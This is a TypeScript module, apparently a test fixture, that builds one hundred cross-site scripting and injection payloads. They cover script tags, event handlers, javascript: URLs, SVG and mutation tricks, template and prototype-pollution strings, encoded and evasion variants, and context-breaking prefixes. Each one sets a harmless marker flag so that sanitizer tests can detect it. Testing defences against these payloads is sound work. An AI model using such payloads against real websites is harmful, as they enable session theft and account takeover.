/** Every way in which text of a page has been known to become markup or a script, each marked so that what comes of it can be found. */
const MARK = 'class=payload';
const RUN = 'window.payloads=1';

const ELEMENTS = [
  `<script ${MARK}>${RUN}</script>`,
  `<img ${MARK} src=x onerror="${RUN}">`,
  `<img ${MARK} src=x onerror=${RUN}//`,
  `<svg ${MARK} onload="${RUN}">`,
  `<svg><script ${MARK}>${RUN}</script></svg>`,
  `<svg><animate ${MARK} onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a ${MARK} xlink:href="javascript:${RUN}"><text>open</text></a></svg>`,
  `<svg><foreignObject ${MARK}><iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe ${MARK} src="javascript:${RUN}"></iframe>`,
  `<iframe ${MARK} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object ${MARK} data="javascript:${RUN}"></object>`,
  `<embed ${MARK} src="javascript:${RUN}">`,
  `<a ${MARK} href="javascript:${RUN}">open</a>`,
  `<a ${MARK} href="data:text/html,<script>${RUN}</script>">open</a>`,
  `<details ${MARK} open ontoggle="${RUN}">`,
  `<video ${MARK} onerror="${RUN}"><source></video>`,
  `<audio ${MARK} src=x onerror="${RUN}">`,
  `<input ${MARK} autofocus onfocus="${RUN}">`,
  `<textarea ${MARK} autofocus onfocus="${RUN}">`,
  `<body ${MARK} onload="${RUN}">`,
  `<marquee ${MARK} onstart="${RUN}">`,
  `<style ${MARK}>*{background:url("javascript:${RUN}")}</style>`,
  `<link ${MARK} rel=stylesheet href="javascript:${RUN}">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base ${MARK} href="https://elsewhere.example/">`,
  `<form ${MARK} action="javascript:${RUN}"><button>open</button></form>`,
  `<math><mtext><mglyph><style><img ${MARK} src=x onerror="${RUN}">`,
  `<template><img ${MARK} src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${RUN}>">`,
  `<b ${MARK}>bold</b>`,
];

/** What makes an element of its own where text stands in an attribute, a comment, a script, or another element. */
const ESCAPES = ['">', "'>", '-->', '</script>', '</title></style></textarea>', ']]>', '\\"-'] as const;

const OTHERS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{"__proto__":{"payloads":1}}`,
  `{"$$typeof":"react.element","type":"script"}`,
  `&lt;script ${MARK}&gt;${RUN}&lt;/script&gt;`,
  `&#60;img ${MARK} src=x onerror=${RUN}&#62;`,
  `%3Cscript ${MARK}%3E${RUN}%3C/script%3E`,
  `\\u003cimg ${MARK} src=x onerror=${RUN}\\u003e`,
  `';${RUN};'`,
  `";${RUN};"`,
  `[open](javascript:${RUN})`,
  `![open](x" onerror="${RUN})`,
  `＜script ${MARK}＞${RUN}＜/script＞`,
  `<\u200bscript ${MARK}>${RUN}</script>`,
  `<<script ${MARK}>${RUN}//<</script>`,
  `<scr<script>ipt ${MARK}>${RUN}</script>`,
  `<IMG ${MARK} SRC=x ONERROR="${RUN}">`,
  `<img/${MARK}/src=x/onerror=${RUN}>`,
];

/** A hundred payloads, all different. */
export const PAYLOADS: readonly string[] = [...ELEMENTS, ...OTHERS, ...ESCAPES.flatMap((escape) => ELEMENTS.map((one) => `${escape}${one}`))].slice(
  0,
  100,
);
